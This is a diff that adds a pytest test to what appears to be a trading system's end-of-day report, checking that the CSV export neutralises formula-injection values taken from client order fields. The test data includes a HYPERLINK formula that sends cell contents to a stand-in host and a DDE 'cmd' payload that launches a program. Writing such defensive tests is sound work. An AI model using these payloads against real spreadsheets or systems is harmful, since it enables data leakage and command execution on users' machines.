@@ -101,3 +101,24 @@ def test_eod_lists_orders_open_from_earlier_days(two_days):
     # day 1: both GTC orders open at its end
     day1 = Q.eod_data(con, date="2026-11-25")
     assert sorted(o["cl_ord_id"] for o in day1["exceptions"]["pending"]) == ["G-1", "G-2"]
+
+
+def test_eod_csv_neutralizes_formulas_from_clients(tmp_path):
+    """ClOrdID, Account, Symbol and Price come from clients as sent; a spreadsheet opening the
+    CSV must not run them as formulas (CSV injection)."""
+    evil = '=HYPERLINK("http://x.example/?"&A1,"click")'
+    _run(tmp_path, [
+        _new(evil, "1", 10, "185.00", ts=T0),                                    # accepted, rests
+        _new("+R-1", "1", 10, "185.00", account="@SUM(1+1)", ts=T0 + MIN),       # unknown account
+        _new("R-2", "1", 10, "-cmd|' /C calc'!A0", ts=T0 + 2 * MIN),             # bad price
+        _new("R-3", "1", 10, "-5", ts=T0 + 3 * MIN),                             # negative: a number
+    ])
+    proj, con = _open(tmp_path)
+    try:
+        text = Q.eod_report(con, date="2026-11-25", fmt="csv")
+    finally:
+        con.close()
+        proj.close()
+    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
+    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and c != "-5")]
+    assert "'" + evil in cells and "'@SUM(1+1)" in cells and "'+R-1" in cells and "-5" in cells
